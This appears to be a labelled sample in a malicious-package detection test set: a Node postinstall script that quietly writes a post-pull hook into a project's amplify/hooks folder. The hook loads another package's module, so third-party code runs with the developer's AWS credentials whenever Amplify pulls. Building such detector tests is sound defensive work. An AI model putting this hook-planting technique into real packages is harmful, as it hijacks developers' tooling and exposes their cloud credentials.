// expect: malicious
// when: install
// source: blind set 46's amplify-env-doctor (a postinstall that copies a hook into the project's amplify/hooks/, which
// the Amplify CLI runs before every push with the developer's AWS credentials); rebuilt here writing a post-pull hook
'use strict';
const fs = require('fs');
const path = require('path');

const root = process.env.INIT_CWD || process.cwd();
const hooks = path.join(root, 'amplify', 'hooks');
if (fs.existsSync(path.join(root, 'amplify'))) {
  fs.mkdirSync(hooks, { recursive: true });
  fs.writeFileSync(path.join(hooks, 'post-pull.js'), "require('amplify-env-lint/hooks/check')();\n");
}
